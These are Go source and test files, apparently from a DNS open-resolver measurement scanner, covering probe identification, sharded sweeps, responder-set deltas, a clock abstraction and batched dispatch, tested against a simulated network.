		// Checkpoint between name rounds: a cancelled scan keeps the
		// rows already measured and stops before the next fan-out.
		if err := ctx.Err(); err != nil {
			return res, err
		}
		row := res.Answers[ni]
		s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
			v := dnswire.GetView()
			defer dnswire.PutView(v)
			if err := v.Reset(payload); err != nil || !v.QR() || v.QDCount() == 0 {
				return
			}
			// Recover the resolver identifier. The transaction ID
			// carries the low 16 bits; the destination port names the
			// high 9 — unless the resolver rewrote the port, in which
			// case the 0x20 casing of the echoed question supplies
			// them.
			txid := v.ID()
			portRewritten := false
			var hi uint16
			if dstPort >= s.opts.BasePort && dstPort < s.opts.BasePort+dnswire.ProbePortCount {
				hi = dstPort - s.opts.BasePort
			} else {
				bits, nbits := dnswire.Decode0x20Bytes(v.QName(), 9)
				if nbits < 9 {
					// Too few letters to recover; drop like the
					// paper drops unattributable responses.
					return
				}
				hi = uint16(bits)
				portRewritten = true
			}
			id := dnswire.JoinProbeID(txid, hi)
			if int(id) >= len(resolvers) {
				return
			}
			s.m.domainsRecv.Inc()
			ans := &row[id]
			mu := locks.of(uint32(id))
			mu.Lock()
			defer mu.Unlock()
			ans.Responses++
			// The answer set is materialized only for the responses that
			// are actually recorded; duplicate and late responses cost no
			// allocation.
			if ans.Responses == 1 {
				ans.RCode = v.RCode()
				ans.Addrs = v.AppendAnswerA(nil)
				ans.NSOnly = len(ans.Addrs) == 0 && v.HasAuthorityNS()
				ans.PortRewritten = portRewritten
			} else if ans.Responses == 2 {
				ans.SecondAddrs = v.AppendAnswerA(nil)
			}
		})

		// The retransmission loop (round 0 fan-out, miss recomputation,
		// backoff, budget, deadline) is the shared retryRounds helper;
		// the probe payload is identical across attempts, so fault-layer
		// redraws ride on the transport's retransmission counter.
		err := s.retryRounds(ctx, s.opts.Retries, len(resolvers),
			func(ri, _ int) {
				id := dnswire.ProbeID(ri)
				txid, portIdx := dnswire.SplitProbeID(id)
				qname, _ := dnswire.Encode0x20(name, uint32(portIdx), 9)
				wire := packQuery(txid, qname, dnswire.TypeA, dnswire.ClassIN)
				s.m.domainsSent.Inc()
				//lint:allow errdrop domain-probe send failures are modeled packet loss
				s.tr.Send(ctx, lfsr.U32ToAddr(resolvers[ri]), 53, s.opts.BasePort+portIdx, wire)
			},
			func(ri int) bool {
				mu := locks.of(uint32(ri))
				mu.Lock()
				n := row[ri].Responses
				mu.Unlock()
				return n == 0
			})
		if err != nil {
			return res, err
		}
	}
	return res, ctx.Err()
}

type errTooManyResolvers int

func (e errTooManyResolvers) Error() string {
	return "scanner: resolver count exceeds the 25-bit probe identifier space"
}
