package scanner

import (
	"net/netip"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// TCPQuerier is implemented by transports that can carry DNS over TCP
// (RFC 1035 §4.2.2). The scanner retries over TCP when a UDP response
// arrives with the TC bit set.
type TCPQuerier interface {
	QueryTCP(dst netip.Addr, payload []byte) ([]byte, bool)
}

// ProbeTC sends one UDP query and, when the response is truncated and the
// transport supports TCP, retries the exchange over TCP. It returns the
// final responses (TCP replacing the truncated UDP answer) and whether a
// TCP fallback happened.
func (s *Scanner) ProbeTC(addr uint32, name string, typ dnswire.Type, class dnswire.Class) ([]*dnswire.Message, bool) {
	if s.tr == nil {
		return nil, false
	}
	var mu sync.Mutex
	var out []*dnswire.Message
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		if m, err := dnswire.Unpack(payload); err == nil && m.Header.QR {
			s.m.tcpRecv.Inc()
			mu.Lock()
			out = append(out, m)
			mu.Unlock()
		}
	})
	wire := packQuery(0x7C17, name, typ, class)
	s.m.tcpSent.Inc()
	//lint:allow errdrop TC-probe send failures are modeled packet loss
	s.tr.Send(bgCtx, lfsr.U32ToAddr(addr), 53, s.opts.BasePort, wire)
	s.settle(bgCtx)

	mu.Lock()
	defer mu.Unlock()
	truncated := false
	for _, m := range out {
		if m.Header.TC {
			truncated = true
		}
	}
	if !truncated {
		return out, false
	}
	tq, ok := s.tr.(TCPQuerier)
	if !ok {
		return out, false
	}
	resp, ok := tq.QueryTCP(lfsr.U32ToAddr(addr), wire)
	if !ok {
		return out, false
	}
	m, err := dnswire.Unpack(resp)
	if err != nil {
		return out, false
	}
	// Replace truncated answers with the full TCP response.
	final := make([]*dnswire.Message, 0, len(out))
	for _, prev := range out {
		if !prev.Header.TC {
			final = append(final, prev)
		}
	}
	final = append(final, m)
	return final, true
}
