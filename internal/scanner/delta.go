package scanner

import (
	"fmt"
	"sort"

	"goingwild/internal/dnswire"
)

// DeltaOp is the kind of one responder-set change between two sweeps.
type DeltaOp uint8

const (
	// DeltaAdd introduces a target that was silent in the previous sweep.
	DeltaAdd DeltaOp = iota
	// DeltaUpdate replaces the record of a target that answered both
	// sweeps but changed source, rcode, or answer status.
	DeltaUpdate
	// DeltaRemove drops a target that stopped answering.
	DeltaRemove
)

// String names the op for diagnostics and delta dumps.
func (op DeltaOp) String() string {
	switch op {
	case DeltaAdd:
		return "add"
	case DeltaUpdate:
		return "update"
	case DeltaRemove:
		return "remove"
	}
	return fmt.Sprintf("op(%d)", uint8(op))
}

// ResponderDelta is one typed change record of an epoch's delta batch,
// keyed by target address. For Add and Update, Responder carries the
// target's new record; for Remove it carries the last-seen record, so a
// consumer can account for what vanished (e.g. decrement its rcode
// bucket) without holding its own copy of the previous snapshot.
type ResponderDelta struct {
	Op        DeltaOp
	Responder Responder
}

// Addr is the delta's key: the probed target address.
func (d ResponderDelta) Addr() uint32 { return d.Responder.Addr }

// DiffSweepResponders computes the delta batch that transforms the old
// responder set into the new one. Both inputs must be sorted by Addr
// (the order every sweep result guarantees); the output is sorted by
// Addr too, which is the order ApplyResponderDeltas requires and the
// reason replaying a delta stream is deterministic.
func DiffSweepResponders(old, new []Responder) []ResponderDelta {
	var out []ResponderDelta
	i, j := 0, 0
	for i < len(old) && j < len(new) {
		switch {
		case old[i].Addr < new[j].Addr:
			out = append(out, ResponderDelta{Op: DeltaRemove, Responder: old[i]})
			i++
		case old[i].Addr > new[j].Addr:
			out = append(out, ResponderDelta{Op: DeltaAdd, Responder: new[j]})
			j++
		default:
			if old[i] != new[j] {
				out = append(out, ResponderDelta{Op: DeltaUpdate, Responder: new[j]})
			}
			i++
			j++
		}
	}
	for ; i < len(old); i++ {
		out = append(out, ResponderDelta{Op: DeltaRemove, Responder: old[i]})
	}
	for ; j < len(new); j++ {
		out = append(out, ResponderDelta{Op: DeltaAdd, Responder: new[j]})
	}
	return out
}

// ApplyResponderDeltas replays one delta batch over a snapshot and
// returns the next snapshot, sorted by Addr. Both the snapshot and the
// batch must be sorted by Addr; the merge walk then costs O(n+d) and
// produces exactly one possible output, so replaying the same stream
// always reconstructs the same state. The snapshot slice is not
// modified. Contract violations — an unsorted batch, an Add of a
// present target, an Update or Remove of an absent one — are reported
// as errors rather than repaired, because each one means the producer
// and consumer have drifted and the stream can no longer be trusted.
func ApplyResponderDeltas(snapshot []Responder, deltas []ResponderDelta) ([]Responder, error) {
	out := make([]Responder, 0, len(snapshot)+len(deltas))
	i := 0
	for k, d := range deltas {
		if k > 0 && deltas[k-1].Addr() >= d.Addr() {
			return nil, fmt.Errorf("scanner: delta batch not sorted: %08x after %08x", d.Addr(), deltas[k-1].Addr())
		}
		for i < len(snapshot) && snapshot[i].Addr < d.Addr() {
			out = append(out, snapshot[i])
			i++
		}
		present := i < len(snapshot) && snapshot[i].Addr == d.Addr()
		switch d.Op {
		case DeltaAdd:
			if present {
				return nil, fmt.Errorf("scanner: delta add of present target %08x", d.Addr())
			}
			out = append(out, d.Responder)
		case DeltaUpdate:
			if !present {
				return nil, fmt.Errorf("scanner: delta update of absent target %08x", d.Addr())
			}
			out = append(out, d.Responder)
			i++
		case DeltaRemove:
			if !present {
				return nil, fmt.Errorf("scanner: delta remove of absent target %08x", d.Addr())
			}
			i++
		default:
			return nil, fmt.Errorf("scanner: unknown delta op %d for target %08x", d.Op, d.Addr())
		}
	}
	out = append(out, snapshot[i:]...)
	return out, nil
}

// SnapshotSweep freezes a sorted responder list into the SweepResult a
// batch sweep of the same population would return: same slice order,
// same ByRCode tallies. It is how a delta consumer materializes its
// replayed state for the batch-born renderers.
func SnapshotSweep(probed uint64, responders []Responder) *SweepResult {
	res := &SweepResult{
		Probed:     probed,
		ByRCode:    make(map[dnswire.RCode]int),
		Responders: append([]Responder(nil), responders...),
	}
	for _, r := range res.Responders {
		res.ByRCode[r.RCode]++
	}
	return res
}

// MergeSweepResults deterministically combines shard-local sweep
// results into the result one unsharded sweep would have produced:
// probed counts sum, responder lists merge-sort by Addr, and ByRCode is
// rebuilt from the merged set. The inputs must cover disjoint target
// sets (the scanner's sharding contract); a target present in two parts
// is an error, since first-response-wins gives no deterministic way to
// pick between conflicting records.
func MergeSweepResults(parts []*SweepResult) (*SweepResult, error) {
	total := 0
	var probed uint64
	for _, p := range parts {
		total += len(p.Responders)
		probed += p.Probed
	}
	merged := make([]Responder, 0, total)
	for _, p := range parts {
		merged = append(merged, p.Responders...)
	}
	sort.Slice(merged, func(i, j int) bool { return merged[i].Addr < merged[j].Addr })
	for i := 1; i < len(merged); i++ {
		if merged[i-1].Addr == merged[i].Addr {
			return nil, fmt.Errorf("scanner: target %08x present in two sweep results", merged[i].Addr)
		}
	}
	return SnapshotSweep(probed, merged), nil
}
