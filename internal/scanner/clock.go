package scanner

import (
	"context"
	"time"
)

// Clock abstracts the scanner's view of time. Rate pacing, settle
// delays, and traffic statistics all go through it, so tests can drive
// the engine with a fake clock and assert on timing-derived numbers
// (QPS, elapsed) deterministically. Production code uses SystemClock.
//
// This is the single seam through which wall-clock time enters the
// package; everything else must take a Clock.
type Clock interface {
	// Now returns the current time.
	Now() time.Time
	// Sleep pauses the calling goroutine for d.
	Sleep(d time.Duration)
}

// ContextSleeper is optionally implemented by clocks whose Sleep can be
// cut short by a context. SystemClock implements it with a timer; fake
// clocks implement it to model deadlines hitting mid-settle.
type ContextSleeper interface {
	// SleepContext sleeps for d or until ctx is done, whichever comes
	// first, returning ctx.Err() when cancellation won.
	SleepContext(ctx context.Context, d time.Duration) error
}

// sleepCtx sleeps d on the clock but returns early once ctx dies. A
// context that can never be cancelled (Done() == nil, the compatibility-
// wrapper path) sleeps directly on the clock, byte-for-byte the old
// behavior. Clocks implementing ContextSleeper get the cancellation
// handed to them; for plain clocks the sleep is parked on a goroutine so
// the scan itself returns promptly (the goroutine is reclaimed when the
// clock's Sleep elapses).
func sleepCtx(ctx context.Context, c Clock, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	if cs, ok := c.(ContextSleeper); ok {
		return cs.SleepContext(ctx, d)
	}
	if ctx.Done() == nil {
		c.Sleep(d)
		return nil
	}
	if err := ctx.Err(); err != nil {
		return err
	}
	slept := make(chan struct{})
	go func() {
		c.Sleep(d)
		close(slept)
	}()
	select {
	case <-slept:
	case <-ctx.Done():
	}
	return ctx.Err()
}

// SystemClock is the process wall-clock, the default when no Clock is
// injected.
var SystemClock Clock = sysClock{}

type sysClock struct{}

//lint:allow determinism sole wall-clock entry point; every other site injects a Clock
func (sysClock) Now() time.Time { return time.Now() }

//lint:allow sleepcall the system Clock implementation is the one legal raw sleep
func (sysClock) Sleep(d time.Duration) { time.Sleep(d) }

// SleepContext implements ContextSleeper without parking a goroutine.
func (sysClock) SleepContext(ctx context.Context, d time.Duration) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	//lint:allow sleepcall the system Clock's cancellable sleep owns its timer
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}
