package scanner

import "time"

// Clock abstracts the scanner's view of time. Rate pacing, settle
// delays, and traffic statistics all go through it, so tests can drive
// the engine with a fake clock and assert on timing-derived numbers
// (QPS, elapsed) deterministically. Production code uses SystemClock.
//
// This is the single seam through which wall-clock time enters the
// package; everything else must take a Clock.
type Clock interface {
	// Now returns the current time.
	Now() time.Time
	// Sleep pauses the calling goroutine for d.
	Sleep(d time.Duration)
}

// SystemClock is the process wall-clock, the default when no Clock is
// injected.
var SystemClock Clock = sysClock{}

type sysClock struct{}

//lint:allow determinism sole wall-clock entry point; every other site injects a Clock
func (sysClock) Now() time.Time { return time.Now() }

func (sysClock) Sleep(d time.Duration) { time.Sleep(d) }
