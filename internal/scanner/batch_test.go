package scanner

import (
	"bytes"
	"reflect"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/wildnet"
)

// TestTemplateBuildMatchesAppend pins the contract templateBuild's doc
// comment promises: the template-patched batch payload is byte-for-byte
// what AppendTargetQuery produces for the same target and attempt.
func TestTemplateBuildMatchesAppend(t *testing.T) {
	base := dnswire.CanonicalName(domains.ScanBase)
	baseWire, err := dnswire.EncodeNameWire(base)
	if err != nil {
		t.Fatal(err)
	}
	targets := []uint32{1, 2, 0xFF, 0x1234, 0xDEADBEEF, 0xFFFFFFFF, 0x01020304, 0x80000000}
	for u := uint32(3); u < 1<<20; u += 99991 { // sparse walk of the low space
		targets = append(targets, u)
	}
	for attempt := 0; attempt <= 3; attempt++ {
		build := templateBuild(baseWire, attempt)
		var arena []byte
		offs := []int{0}
		for _, u := range targets {
			arena = build(u, arena)
			offs = append(offs, len(arena))
		}
		for i, u := range targets {
			got := arena[offs[i]:offs[i+1]]
			prefix := cachePrefixN(u, attempt)
			want := dnswire.AppendTargetQuery(nil, uint16(u)^uint16(u>>16),
				prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
			if !bytes.Equal(got, want) {
				t.Fatalf("attempt %d target %08x: templateBuild diverges from AppendTargetQuery:\n got %x\nwant %x",
					attempt, u, got, want)
			}
		}
	}
}

// sweepWith runs one sweep against a fresh deterministic world, so two
// invocations differ only in the options the caller varies.
func sweepWith(t *testing.T, order uint, seed uint32, opts Options) *SweepResult {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	defer tr.Close()
	res, err := New(tr, opts).Sweep(order, seed, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// TestShardedSweepMatchesUnsharded is the core sharding determinism
// claim: an M-shard sweep produces the same probed count, responder list
// (addresses, sources, rcodes, answer bits, order), and rcode histogram
// as the unsharded sweep — probes are bit-identical, so the modeled loss
// draws agree.
func TestShardedSweepMatchesUnsharded(t *testing.T) {
	base := Options{Workers: 2, SweepRetries: 1, SettleDelay: time.Millisecond}
	single := sweepWith(t, 16, 4242, base)
	for _, m := range []int{2, 4, 7} {
		opts := base
		opts.Shards = m
		sharded := sweepWith(t, 16, 4242, opts)
		if sharded.Probed != single.Probed {
			t.Errorf("shards=%d probed %d, unsharded %d", m, sharded.Probed, single.Probed)
		}
		if !reflect.DeepEqual(sharded.Responders, single.Responders) {
			t.Errorf("shards=%d responder list diverges from unsharded (%d vs %d entries)",
				m, len(sharded.Responders), len(single.Responders))
		}
		if !reflect.DeepEqual(sharded.ByRCode, single.ByRCode) {
			t.Errorf("shards=%d rcode histogram %v, unsharded %v", m, sharded.ByRCode, single.ByRCode)
		}
	}
}

// TestSweepShardUnionMatchesUnsharded covers the out-of-process split:
// running each shard as its own SweepShard call (fresh world each, as
// separate scan processes would) and merging the per-shard results
// reproduces the unsharded sweep exactly.
func TestSweepShardUnionMatchesUnsharded(t *testing.T) {
	const of = 4
	opts := Options{Workers: 2, SweepRetries: 1, SettleDelay: time.Millisecond}
	single := sweepWith(t, 16, 777, opts)

	var probed uint64
	merged := map[uint32]Responder{}
	for shard := 0; shard < of; shard++ {
		w, err := wildnet.NewWorld(wildnet.DefaultConfig(16))
		if err != nil {
			t.Fatal(err)
		}
		tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		res, err := New(tr, opts).SweepShard(16, 777, w.ScanBlacklist(), shard, of)
		tr.Close()
		if err != nil {
			t.Fatal(err)
		}
		probed += res.Probed
		for _, r := range res.Responders {
			if _, dup := merged[r.Addr]; dup {
				t.Fatalf("target %08x reported by two shards", r.Addr)
			}
			merged[r.Addr] = r
		}
	}
	if probed != single.Probed {
		t.Errorf("shard probes sum to %d, unsharded probed %d", probed, single.Probed)
	}
	if len(merged) != len(single.Responders) {
		t.Errorf("shard union has %d responders, unsharded %d", len(merged), len(single.Responders))
	}
	for _, want := range single.Responders {
		if got, ok := merged[want.Addr]; !ok || got != want {
			t.Errorf("target %08x: shard union %+v, unsharded %+v", want.Addr, got, want)
		}
	}
}

// TestShardedSweepBudgetSplit checks the one documented divergence knob:
// shardBudget shares sum exactly to the budget, and a bound-budget
// sharded sweep still completes cleanly.
func TestShardedSweepBudgetSplit(t *testing.T) {
	for _, tc := range []struct{ total, m int }{{10, 3}, {7, 7}, {3, 8}, {0, 4}, {100, 1}} {
		sum := 0
		for i := 0; i < tc.m; i++ {
			share := shardBudget(tc.total, i, tc.m)
			if share < 0 {
				t.Fatalf("negative share for budget %d shard %d/%d", tc.total, i, tc.m)
			}
			sum += share
		}
		want := tc.total
		if want < 0 {
			want = 0
		}
		if sum != want {
			t.Errorf("budget %d over %d shards sums to %d", tc.total, tc.m, sum)
		}
	}
	opts := Options{Workers: 2, SweepRetries: 2, RetryBudget: 50, SettleDelay: time.Millisecond, Shards: 4}
	res := sweepWith(t, 14, 99, opts)
	if res.Probed == 0 || res.Total() == 0 {
		t.Errorf("budgeted sharded sweep found nothing: probed=%d responders=%d", res.Probed, res.Total())
	}
}

// TestBatchedDispatchMatchesPerProbe pins that hiding BatchSender from
// the scanner (forcing the per-probe Send loop) changes nothing about
// the result — batching is pure dispatch overhead.
func TestBatchedDispatchMatchesPerProbe(t *testing.T) {
	run := func(hide bool) *SweepResult {
		w, err := wildnet.NewWorld(wildnet.DefaultConfig(14))
		if err != nil {
			t.Fatal(err)
		}
		tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		defer tr.Close()
		var transport Transport = tr
		if hide {
			transport = struct{ Transport }{tr}
		}
		res, err := New(transport, Options{Workers: 2, SweepRetries: 1, SettleDelay: time.Millisecond}).
			Sweep(14, 31337, w.ScanBlacklist())
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	batched, single := run(false), run(true)
	if !reflect.DeepEqual(batched, single) {
		t.Errorf("batched dispatch diverges from per-probe Send: %d vs %d responders",
			batched.Total(), single.Total())
	}
	if _, ok := any(struct{ Transport }{}).(wildnet.BatchSender); ok {
		t.Fatal("wrapper unexpectedly still exposes SendBatch")
	}
}

// TestShardGeneratorUnionIsPermutation: the leapfrog shards of one seed
// partition the full permutation slot-for-slot.
func TestShardGeneratorUnionIsPermutation(t *testing.T) {
	const order, seed, m = 12, 5, 3
	full, err := lfsr.NewTargetGenerator(order, seed, nil)
	if err != nil {
		t.Fatal(err)
	}
	var want []uint32
	for {
		u, ok := full.NextU32()
		if !ok {
			break
		}
		want = append(want, u)
	}
	got := make([]uint32, len(want))
	seen := 0
	for i := 0; i < m; i++ {
		g, err := lfsr.ShardedGenerator(order, seed, nil, i, m)
		if err != nil {
			t.Fatal(err)
		}
		for pos := i; ; pos += m {
			u, ok := g.NextU32()
			if !ok {
				break
			}
			if pos >= len(want) {
				t.Fatalf("shard %d overran the permutation", i)
			}
			got[pos] = u
			seen++
		}
	}
	if seen != len(want) {
		t.Fatalf("shards yielded %d slots, permutation has %d", seen, len(want))
	}
	for pos := range want {
		if got[pos] != want[pos] {
			t.Fatalf("slot %d: shard union %08x, full walk %08x", pos, got[pos], want[pos])
		}
	}
}
