package scanner

import (
	"math/rand"
	"reflect"
	"testing"

	"goingwild/internal/dnswire"
)

// randomResponders builds a sorted responder set over a small address
// space so successive sets overlap heavily — the churn regime deltas
// are built for.
func randomResponders(rng *rand.Rand, space uint32) []Responder {
	var out []Responder
	for addr := uint32(0); addr < space; addr++ {
		if rng.Intn(3) == 0 {
			continue
		}
		out = append(out, Responder{
			Addr:     addr,
			Source:   addr ^ uint32(rng.Intn(2)),
			RCode:    dnswire.RCode(rng.Intn(6)),
			Answered: rng.Intn(2) == 0,
		})
	}
	return out
}

func TestDiffApplyRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(0x5eed))
	prev := []Responder(nil)
	for epoch := 0; epoch < 50; epoch++ {
		next := randomResponders(rng, 64)
		deltas := DiffSweepResponders(prev, next)
		got, err := ApplyResponderDeltas(prev, deltas)
		if err != nil {
			t.Fatalf("epoch %d: %v", epoch, err)
		}
		if !reflect.DeepEqual(got, next) {
			t.Fatalf("epoch %d: apply(prev, diff(prev, next)) != next\ngot  %v\nwant %v", epoch, got, next)
		}
		prev = next
	}
}

func TestDiffReplayFromEmptyMatchesFinalSnapshot(t *testing.T) {
	// The streaming determinism contract in miniature: replaying every
	// epoch's delta batch over the empty snapshot must land on exactly
	// the last sweep's responder set.
	rng := rand.New(rand.NewSource(42))
	var snapshot, prev []Responder
	var last []Responder
	for epoch := 0; epoch < 20; epoch++ {
		next := randomResponders(rng, 48)
		var err error
		snapshot, err = ApplyResponderDeltas(snapshot, DiffSweepResponders(prev, next))
		if err != nil {
			t.Fatalf("epoch %d: %v", epoch, err)
		}
		prev, last = next, next
	}
	if !reflect.DeepEqual(snapshot, last) {
		t.Fatalf("replayed snapshot diverged from final sweep\ngot  %v\nwant %v", snapshot, last)
	}
}

func TestDiffClassifiesOps(t *testing.T) {
	r := func(addr uint32, rc dnswire.RCode) Responder {
		return Responder{Addr: addr, Source: addr, RCode: rc}
	}
	old := []Responder{r(1, 0), r(2, 0), r(3, 0)}
	new := []Responder{r(2, 3), r(3, 0), r(4, 0)}
	deltas := DiffSweepResponders(old, new)
	want := []ResponderDelta{
		{Op: DeltaRemove, Responder: r(1, 0)},
		{Op: DeltaUpdate, Responder: r(2, 3)},
		{Op: DeltaAdd, Responder: r(4, 0)},
	}
	if !reflect.DeepEqual(deltas, want) {
		t.Fatalf("deltas = %v, want %v", deltas, want)
	}
	if DiffSweepResponders(old, old) != nil {
		t.Error("diff of identical sets is not empty")
	}
}

func TestApplyRejectsContractViolations(t *testing.T) {
	r := func(addr uint32) Responder { return Responder{Addr: addr, Source: addr} }
	snap := []Responder{r(1), r(3)}
	cases := []struct {
		name   string
		deltas []ResponderDelta
	}{
		{"unsorted batch", []ResponderDelta{{Op: DeltaAdd, Responder: r(5)}, {Op: DeltaAdd, Responder: r(2)}}},
		{"duplicate key", []ResponderDelta{{Op: DeltaAdd, Responder: r(2)}, {Op: DeltaUpdate, Responder: r(2)}}},
		{"add of present", []ResponderDelta{{Op: DeltaAdd, Responder: r(3)}}},
		{"update of absent", []ResponderDelta{{Op: DeltaUpdate, Responder: r(2)}}},
		{"remove of absent", []ResponderDelta{{Op: DeltaRemove, Responder: r(2)}}},
		{"unknown op", []ResponderDelta{{Op: DeltaOp(9), Responder: r(2)}}},
	}
	for _, tc := range cases {
		if _, err := ApplyResponderDeltas(snap, tc.deltas); err == nil {
			t.Errorf("%s: accepted", tc.name)
		}
	}
	// The snapshot itself must never be mutated by a failed or
	// successful apply.
	if !reflect.DeepEqual(snap, []Responder{r(1), r(3)}) {
		t.Error("apply mutated its input snapshot")
	}
}

func TestSnapshotSweepMatchesCollector(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	responders := randomResponders(rng, 64)
	res := SnapshotSweep(100, responders)
	if res.Probed != 100 || len(res.Responders) != len(responders) {
		t.Fatalf("snapshot = %d probed / %d responders", res.Probed, len(res.Responders))
	}
	count := 0
	for rc, n := range res.ByRCode {
		count += n
		want := 0
		for _, r := range responders {
			if r.RCode == rc {
				want++
			}
		}
		if n != want {
			t.Errorf("ByRCode[%v] = %d, want %d", rc, n, want)
		}
	}
	if count != len(responders) {
		t.Errorf("ByRCode sums to %d, want %d", count, len(responders))
	}
	// Defensive copy: growing the input must not alias the snapshot.
	responders[0].RCode = 15
	if res.Responders[0].RCode == 15 {
		t.Error("snapshot aliases the input slice")
	}
}

func TestMergeSweepResultsDisjointAndDetectsOverlap(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	full := randomResponders(rng, 128)
	// Leapfrog split, as the sharded sweep partitions targets.
	parts := make([]*SweepResult, 4)
	for i := range parts {
		parts[i] = &SweepResult{Probed: 32}
	}
	for k, r := range full {
		p := parts[k%4]
		p.Responders = append(p.Responders, r)
	}
	merged, err := MergeSweepResults(parts)
	if err != nil {
		t.Fatal(err)
	}
	want := SnapshotSweep(128, full)
	if !reflect.DeepEqual(merged, want) {
		t.Fatalf("merged shards != unsharded snapshot\ngot  %+v\nwant %+v", merged, want)
	}

	parts[0].Responders = append(parts[0].Responders, parts[1].Responders[0])
	if _, err := MergeSweepResults(parts); err == nil {
		t.Error("overlapping shards accepted")
	}
}
