package scanner

import (
	"context"
	"sync"
	"sync/atomic"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/wildnet"
)

// Batched probe dispatch: instead of one Transport.Send per probe, sender
// workers assemble up to streamBatch probes into a pooled arena and hand
// the whole batch to the transport in one BatchSender.SendBatch call.
// Against the in-memory transport that amortizes the clock lock and the
// fault-layer gate; against the UDP gateway it becomes one sendmmsg(2)
// per batch instead of 256 sendto(2) calls. Transports that do not
// implement wildnet.BatchSender keep the per-probe Send loop — scan
// results are identical either way, batching only changes the dispatch
// overhead.

// batchSizeBounds buckets the transport.batch.size histogram: powers of
// two up to the streamBatch flush threshold.
var batchSizeBounds = []int64{1, 2, 4, 8, 16, 32, 64, 128, 256}

// probeBatch is a pooled batch-assembly arena: target addresses, payload
// bytes, and the probe headers that point into them. Payloads append into
// one buffer and are sliced only in finish, after the arena has stopped
// growing, so reallocation never leaves a probe pointing at a stale
// backing array.
type probeBatch struct {
	// n is the live probe count; us and offs stay at full streamBatch
	// length so batch assembly writes by index and never appends.
	n      int
	us     []uint32
	offs   []int
	buf    []byte
	probes []wildnet.Probe
}

// probeBatchPool recycles assembly arenas across batches and scans, like
// sweepBufPool does for the per-probe path. The probe headers are kept at
// full length with the constant fields (DstPort 53) prefilled; finish
// only writes what varies per probe.
var probeBatchPool = sync.Pool{New: func() any {
	b := &probeBatch{
		us:     make([]uint32, streamBatch),
		offs:   make([]int, streamBatch),
		buf:    make([]byte, 0, streamBatch*64),
		probes: make([]wildnet.Probe, streamBatch),
	}
	for i := range b.probes {
		b.probes[i].DstPort = 53
	}
	return b
}}

// templateBuild returns a batch payload builder that patches the three
// per-target fields (transaction ID, anti-caching prefix, hex-IP label)
// into a preassembled query, instead of rebuilding the query label by
// label. The output is byte-for-byte what AppendTargetQuery produces for
// the same target and attempt (TestTemplateBuildMatchesAppend pins this),
// which the batched sweep path relies on for probe identity with the
// per-probe path.
func templateBuild(baseWire []byte, attempt int) func(u uint32, buf []byte) []byte {
	p0 := cachePrefixN(0, attempt)
	tmpl := dnswire.AppendTargetQuery(nil, 0, p0[:], 0, baseWire, dnswire.TypeA, dnswire.ClassIN)
	// Fixed layout: id at [0:2]; the 5-byte prefix label content at
	// [13:18] (after the 12-byte header and its length octet); the
	// 8-hex-digit target label content at [19:27].
	const hexdigits = "0123456789abcdef"
	salt := uint64(attempt) * 0x9E3779B9
	return func(u uint32, buf []byte) []byte {
		off := len(buf)
		buf = append(buf, tmpl...)
		w := buf[off:]
		id := uint16(u) ^ uint16(u>>16)
		w[0], w[1] = byte(id>>8), byte(id)
		// The anti-caching prefix, written directly (w[13] stays 'r'
		// from the template; cachePrefixN is the defining computation).
		v := uint16((uint64(u)*2654435761 + salt) >> 8)
		w[14] = hexdigits[v>>12]
		w[15] = hexdigits[v>>8&0xF]
		w[16] = hexdigits[v>>4&0xF]
		w[17] = hexdigits[v&0xF]
		w[19] = hexdigits[u>>28]
		w[20] = hexdigits[u>>24&0xF]
		w[21] = hexdigits[u>>20&0xF]
		w[22] = hexdigits[u>>16&0xF]
		w[23] = hexdigits[u>>12&0xF]
		w[24] = hexdigits[u>>8&0xF]
		w[25] = hexdigits[u>>4&0xF]
		w[26] = hexdigits[u&0xF]
		return buf
	}
}

// reset clears the arena for the next batch, keeping capacity.
//
//lint:hotpath per-probe batch assembly
func (b *probeBatch) reset() {
	b.n = 0
	b.buf = b.buf[:0]
}

// add records target u and writes its payload (via build) to the arena.
// Callers flush before n can reach streamBatch, so the indexed writes
// stay in bounds.
//
//lint:hotpath per-probe batch assembly
func (b *probeBatch) add(u uint32, build func(u uint32, buf []byte) []byte) {
	b.us[b.n] = u
	b.offs[b.n] = len(b.buf)
	b.n++
	b.buf = build(u, b.buf)
}

// finish materializes the probe headers once the arena is stable. Only
// the varying fields are written: DstPort is prefilled at pool
// construction, and the header slots beyond this batch's length keep
// their stale-but-unreachable previous values.
//
//lint:hotpath per-probe batch assembly
func (b *probeBatch) finish(srcPort uint16) []wildnet.Probe {
	probes := b.probes[:b.n]
	for i := 0; i < b.n; i++ {
		end := len(b.buf)
		if i+1 < b.n {
			end = b.offs[i+1]
		}
		p := &probes[i]
		p.Dst = lfsr.U32ToAddr(b.us[i])
		p.SrcPort = srcPort
		p.Payload = b.buf[b.offs[i]:end:end]
	}
	return probes
}

// batchWorker is one batched sender: it pulls target batches from gen
// (under genMu when the generator is shared), assembles the accepted
// targets' probes, and dispatches each batch in a single SendBatch call.
// accept filters targets (nil accepts all; retry rounds pass the miss
// check); build writes one probe payload by appending to the arena;
// onFlush observes each dispatched batch size (for sent accounting).
// Returns the number of probes sent.
//
// Cancellation mirrors streamAll: polled once per pulled batch, and
// skipped entirely for non-cancellable contexts.
func (s *Scanner) batchWorker(ctx context.Context, gen *lfsr.TargetGenerator, genMu *sync.Mutex,
